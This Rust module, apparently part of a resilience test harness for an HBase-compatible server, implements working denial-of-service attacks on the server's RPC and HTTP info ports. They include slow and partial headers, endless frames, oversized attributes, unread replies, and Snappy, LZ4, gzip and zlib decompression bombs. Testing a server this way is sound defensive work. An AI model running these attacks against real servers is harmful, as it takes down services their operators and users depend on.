//! Attacks that use connections and their states.

use std::cell::RefCell;
use std::collections::HashMap;
use std::io::{Read, Write};
use std::thread::sleep;
use std::time::Duration;

use bytes::Bytes;
use evenkeel_compression::{Compression, Compressor};
use evenkeel_protocol::pb;

use super::{Attack, AttackContext, HeldResources, push};
use crate::common::raw;

/// More than the server has descriptors.
const MANY: usize = 300;
const MIB: usize = 1 << 20;

pub const ATTACKS: &[Attack] = &[
    Attack::new("silent connections", silent),
    Attack::new("half a preamble", half_preamble),
    Attack::new("half a connection header", half_header),
    Attack::new("longest connection headers", longest_headers),
    Attack::new("connection headers of many attributes", many_attributes),
    Attack::new("endless connection headers", endless_headers),
    Attack::new("endless SASL tokens", endless_tokens),
    Attack::new("lengths alone", lengths_alone),
    Attack::new("half requests", half_requests),
    Attack::new("half small requests", half_small_requests),
    Attack::new("endless request headers", endless_request_headers),
    Attack::new("a byte at a time", byte_at_a_time),
    Attack::new("garbage", garbage),
    Attack::new("compressed zeros", compressed_zeros),
    Attack::new("zeros compressed by other codecs", zeros_of_other_codecs),
    Attack::new("connections that come and go", come_and_go),
    Attack::new("users with long names", long_user_names),
    Attack::new("idle connections", idle),
    Attack::new("small requests, replies never read", small_never_read),
    Attack::new("large replies never read", never_read),
    Attack::new("master port: connections in every state", master_states),
    Attack::new("info ports: slow and endless requests", info_slow),
    Attack::new("info ports: large pages never read", info_pages),
];

fn silent(context: &AttackContext) -> HeldResources {
    context.keep(MANY, || context.connect(context.regionserver), |_| true)
}

fn sent(context: &AttackContext, count: usize, first: &[u8]) -> HeldResources {
    let open = || {
        let mut stream = context.connect(context.regionserver)?;
        push(&mut stream, first);
        Some(stream)
    };
    context.keep(count, open, |_| true)
}

fn half_preamble(context: &AttackContext) -> HeldResources {
    sent(context, MANY, b"HB")
}

fn half_header(context: &AttackContext) -> HeldResources {
    sent(context, MANY, &[b"HBas\0\x50", &200_u32.to_be_bytes()[..], &[0x0a, 0x04]].concat())
}

fn header_with(attribute: Vec<pb::NameBytesPair>) -> Vec<u8> {
    raw::opening(&pb::ConnectionHeader { attribute, ..raw::connection_header("ClientService") })
}

fn attribute(bytes: usize) -> pb::NameBytesPair {
    pb::NameBytesPair { name: String::new(), value: Some(Bytes::from(vec![7; bytes])) }
}

fn longest_headers(context: &AttackContext) -> HeldResources {
    sent(context, MANY, &header_with(vec![attribute(60_000)]))
}

fn many_attributes(context: &AttackContext) -> HeldResources {
    sent(context, MANY, &header_with(vec![attribute(0); 10_000]))
}

/// Sends a length, and then all bytes that the server accepts.
fn endless(context: &AttackContext, first: &[u8]) -> HeldResources {
    // At most the maximum request size of this server.
    let begin = [first, &(10 * MIB as u32).to_be_bytes()].concat();
    let more = vec![1; MIB];
    let open = || {
        let mut stream = context.connect(context.regionserver)?;
        stream.set_write_timeout(Some(Duration::from_millis(5))).ok()?;
        push(&mut stream, &begin);
        Some(stream)
    };
    context.keep(100, open, |stream| {
        let _ = stream.write(&more);
        true
    })
}

fn endless_headers(context: &AttackContext) -> HeldResources {
    endless(context, b"HBas\0\x50")
}

fn endless_tokens(context: &AttackContext) -> HeldResources {
    endless(context, b"HBas\0\x51")
}

/// Connections that have sent their header, each followed by these bytes.
fn after_header(context: &AttackContext, count: usize, bytes: &[u8]) -> HeldResources {
    let open = || {
        let mut stream = context.client()?;
        push(&mut stream, bytes);
        Some(stream)
    };
    context.keep(count, open, |_| true)
}

fn lengths_alone(context: &AttackContext) -> HeldResources {
    after_header(context, MANY, &(8 * MIB as u32).to_be_bytes())
}

/// A request of this length, in bytes.
fn large_get(context: &AttackContext, bytes: usize) -> Vec<u8> {
    let get =
        pb::Get { row: Bytes::from_static(b"r"), attribute: vec![attribute(bytes)], ..Default::default() };
    raw::call(1, "Get", &pb::GetRequest { region: context.read_region.clone(), get })
}

fn half_requests(context: &AttackContext) -> HeldResources {
    let request = large_get(context, 8 * MIB);
    after_header(context, 100, &request[..4 * MIB])
}

fn half_small_requests(context: &AttackContext) -> HeldResources {
    let request = large_get(context, 60_000);
    after_header(context, MANY, &request[..50_000])
}

fn endless_request_headers(context: &AttackContext) -> HeldResources {
    // A frame over the limit, with a header of nearly 1 MiB that never ends.
    let begin = [&(100 * MIB as u32).to_be_bytes()[..], &[0xff, 0xff, 0x3f], &vec![0x0a; 1_000_000]].concat();
    after_header(context, 100, &begin)
}

fn byte_at_a_time(context: &AttackContext) -> HeldResources {
    let request = large_get(context, MIB);
    let open = || {
        let mut stream = context.client()?;
        push(&mut stream, &request[..100_000]);
        Some(stream)
    };
    context.keep(100, open, |stream| push(stream, &[0]))
}

fn garbage(context: &AttackContext) -> HeldResources {
    let mut seed = 7_u64;
    let mut random = |bytes: usize| -> Vec<u8> {
        let next = || {
            seed = seed.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
            (seed >> 33) as u8
        };
        std::iter::repeat_with(next).take(bytes).collect()
    };
    let beginnings = [
        Vec::new(),
        b"HBas\0\x50".to_vec(),
        raw::opening(&raw::connection_header("ClientService")),
        raw::opening(&raw::connection_header("AdminService")),
    ];
    let mut streams = Vec::new();
    let mut turn = 0;
    while context.runs() {
        let port = if turn % 2 == 0 { context.regionserver } else { context.master };
        if let Some(mut stream) = context.connect(port) {
            push(&mut stream, &beginnings[turn % beginnings.len()]);
            let bytes = random(2000);
            // Half of them in separate frames.
            if turn % 3 == 0 {
                push(&mut stream, &bytes)
            } else {
                push(&mut stream, &raw::frame(&bytes))
            };
            streams.push(stream);
        }
        turn += 1;
        if streams.len() > 100 {
            streams.clear();
        }
        sleep(Duration::from_millis(1));
    }
    Box::new(streams)
}

/// The bytes of a cell block that is short on the wire and large when decompressed.
const ZEROS: usize = 64 * MIB;

fn compressed_zeros(context: &AttackContext) -> HeldResources {
    // Snappy copies of the preceding byte, 64 at a time.
    let mut packed = Vec::new();
    prost::encoding::encode_varint(ZEROS as u64, &mut packed);
    packed.extend([0x00, 0x00]);
    packed.extend([0xfe, 0x01, 0x00].repeat(ZEROS / 64));
    send_blocks(context, &[("SnappyCodec", hadoop_block(&packed))])
}

/// One chunk in Hadoop's block framing.
fn hadoop_block(packed: &[u8]) -> Vec<u8> {
    [&(ZEROS as u32).to_be_bytes()[..], &(packed.len() as u32).to_be_bytes(), packed].concat()
}

fn zeros_of_other_codecs(context: &AttackContext) -> HeldResources {
    // A zero, then a copy of the preceding byte whose length is the sum of the bytes that follow,
    // and a zero as the last literal.
    let longer = ZEROS - 21;
    let lengths = [vec![0xff; longer / 255], vec![(longer % 255) as u8]].concat();
    let lz4 = [&[0x1f, 0, 1, 0][..], &lengths, &[0x10, 0]].concat();
    let mut gzip = Vec::new();
    let mut compressor = Compressor::new(Compression::Gz, false).expect("known");
    compressor.compress(&vec![0; ZEROS], &mut gzip).expect("compressed");
    // The same deflate stream with the header and the checksum of zlib.
    let checksum = ((ZEROS % 65_521) as u32) << 16 | 1;
    let zlib = [&[0x78, 0x9c][..], &gzip[10..gzip.len() - 8], &checksum.to_be_bytes()].concat();
    send_blocks(context, &[("Lz4Codec", hadoop_block(&lz4)), ("GzipCodec", gzip), ("DefaultCodec", zlib)])
}

/// Mutates with these cell blocks, each over connections of its codec.
fn send_blocks(context: &AttackContext, blocks: &[(&str, Vec<u8>)]) -> HeldResources {
    let param = super::put_request(&context.read_region, "r", Vec::new());
    let of_codec = |(codec, block): &(&str, Vec<u8>)| {
        let header = pb::ConnectionHeader {
            cell_block_compressor_class: Some(format!("org.apache.hadoop.io.compress.{codec}")),
            ..raw::connection_header("ClientService")
        };
        (raw::opening(&header), raw::call_with_cells(1, "Mutate", &param, block))
    };
    let codecs: Vec<_> = blocks.iter().map(of_codec).collect();
    let ports = RefCell::new(HashMap::new());
    let mut turn = 0;
    let open = || {
        turn += 1;
        let mut stream = context.connect(context.regionserver)?;
        let codec = turn % codecs.len();
        push(&mut stream, &codecs[codec].0);
        ports.borrow_mut().insert(stream.local_addr().ok()?.port(), codec);
        Some(stream)
    };
    context.keep(4, open, |stream| {
        let codec = stream.local_addr().ok().and_then(|address| ports.borrow().get(&address.port()).copied());
        codec.is_some_and(|codec| push(stream, &codecs[codec].1))
    })
}

/// Each connection is of another user, and asks for a row.
fn long_user_names(context: &AttackContext) -> HeldResources {
    let get = pb::Get { row: Bytes::from_static(b"r0001"), ..Default::default() };
    let get = raw::call(1, "Get", &pb::GetRequest { region: context.read_region.clone(), get });
    let mut turn = 0;
    let open = || {
        turn += 1;
        let effective_user = format!("{turn}{}", "u".repeat(60_000));
        let mut header = raw::connection_header("ClientService");
        header.user_info = Some(pb::UserInformation { effective_user, real_user: None });
        let mut stream = context.connect(context.regionserver)?;
        push(&mut stream, &[raw::opening(&header), get.clone()].concat());
        Some(stream)
    };
    context.keep(30, open, |stream| {
        let _ = stream.read(&mut [0; 100]);
        false
    })
}

fn come_and_go(context: &AttackContext) -> HeldResources {
    while context.runs() {
        for port in [context.regionserver, context.master, context.zookeeper] {
            drop(context.connect(port));
        }
    }
    Box::new(())
}

/// Idle connections, each after one call.
fn idle(context: &AttackContext) -> HeldResources {
    let get = raw::gets(&context.read_region, std::iter::once("r0001".to_owned()));
    let ports = [context.regionserver, context.regionserver, context.regionserver, context.master];
    let mut next = 0;
    let open = || {
        next += 1;
        let mut stream = context.service(ports[next % ports.len()], "ClientService")?;
        push(&mut stream, &get);
        raw::reply(&mut stream).ok()?;
        Some(stream)
    };
    context.keep(MANY, open, |_| true)
}

fn never_read(context: &AttackContext) -> HeldResources {
    let big = raw::gets(&context.read_region, (0..50).map(|n| format!("b{}", n % super::BIG_ROWS)));
    let scans = raw::scans(&context.read_region, 50);
    let mut turn = 0;
    let open = || {
        turn += 1;
        let mut stream = context.client()?;
        push(&mut stream, if turn % 2 == 0 { &big } else { &scans });
        Some(stream)
    };
    context.keep(context.sized(60, 120), open, |_| true)
}

/// All requests that the server accepts; it holds those that it has read and has not run.
fn small_never_read(context: &AttackContext) -> HeldResources {
    let gets = raw::gets(&context.read_region, (0..2000).map(|n| format!("r{n:04}")));
    let open = || {
        let stream = context.client()?;
        stream.set_write_timeout(Some(Duration::from_millis(5))).ok()?;
        Some(stream)
    };
    context.keep(12, open, |stream| {
        // A request that is cut off when the server stops reading is never completed; the bytes
        // after it are garbage.
        let _ = stream.write(&gets);
        true
    })
}

/// Connections of the master's port: silent ones, parts of a connection header, long headers, and
/// parts of requests. Half of them send more bytes from time to time.
fn master_states(context: &AttackContext) -> HeldResources {
    let header = raw::opening(&raw::connection_header("MasterService"));
    let tables = pb::GetTableDescriptorsRequest { include_sys_tables: Some(true), ..Default::default() };
    let tables = raw::call(1, "GetTableDescriptors", &tables);
    let length = |bytes: usize| u32::try_from(bytes).expect("a length").to_be_bytes().to_vec();
    let beginnings = [
        Vec::new(),
        b"HB".to_vec(),
        [&b"HBas\0\x50"[..], &length(200), &[0x0a, 0x04]].concat(),
        [&b"HBas\0\x50"[..], &length(10 * MIB), &vec![1; MIB]].concat(),
        [&b"HBas\0\x51"[..], &length(10 * MIB), &vec![1; MIB]].concat(),
        header_with(vec![attribute(60_000)]),
        header_with(vec![attribute(0); 10_000]),
        [&header[..], &length(8 * MIB)].concat(),
        [&header[..], &length(8 * MIB), &vec![1; 4 * MIB]].concat(),
        [&header[..], &length(60_000), &vec![1; 50_000]].concat(),
        [&header[..], &length(100 * MIB), &[0xff, 0xff, 0x3f], &vec![0x0a; 1_000_000]].concat(),
        // Replies that are never read.
        [&header[..], &tables.repeat(500)].concat(),
        header,
    ];
    let mut turn = 0;
    let open = || {
        turn += 1;
        let mut stream = context.connect(context.master)?;
        stream.set_write_timeout(Some(Duration::from_millis(5))).ok()?;
        push(&mut stream, &beginnings[turn % beginnings.len()]);
        Some(stream)
    };
    let mut turn = 0;
    context.keep(MANY, open, |stream| {
        turn += 1;
        if turn % 2 == 0 {
            let _ = stream.write(&[0]);
        }
        true
    })
}

/// Connections of the info ports: silent ones, half requests, headers that never end, and requests
/// one byte at a time.
fn info_slow(context: &AttackContext) -> HeldResources {
    let beginnings: [&[u8]; 4] = [
        b"",
        b"GET /jmx HTTP/1.1\r\nhost: x\r\n",
        b"GET /jmx HTTP/1.1\r\nx: ",
        b"POST /prometheus HTTP/1.1\r\ncontent-length: 99999999\r\n\r\n",
    ];
    let mut turn = 0;
    let open = || {
        turn += 1;
        let mut stream = context.connect(context.info_ports[turn / beginnings.len() % 2])?;
        stream.set_write_timeout(Some(Duration::from_millis(5))).ok()?;
        push(&mut stream, beginnings[turn % beginnings.len()]);
        Some(stream)
    };
    let (more, mut turn) = (vec![b'x'; MIB], 0);
    context.keep(MANY, open, |stream| {
        turn += 1;
        let _ = stream.write(if turn % 20 == 0 { &more } else { &more[..1] });
        true
    })
}

/// Requests for pages, many on each connection, whose responses are not read.
fn info_pages(context: &AttackContext) -> HeldResources {
    let page = |path: &str| format!("GET {path} HTTP/1.1\r\nhost: x\r\n\r\n");
    let pages =
        ["/prometheus", "/jmx", "/prometheus", "/rs-status", "/master-status"].map(page).concat().repeat(5);
    let mut opened = 0;
    let open = || {
        opened += 1;
        let mut stream = context.connect(context.info_ports[opened % 2])?;
        stream.set_write_timeout(Some(Duration::from_millis(5))).ok()?;
        push(&mut stream, pages.as_bytes());
        Some(stream)
    };
    let mut turn = 0;
    context.keep(context.sized(60, 120), open, |stream| {
        turn += 1;
        // Half of the connections are read, so that the server has more pages to make.
        if turn % 2 == 0 {
            super::drain(stream);
        }
        let _ = stream.write(pages.as_bytes());
        true
    })
}
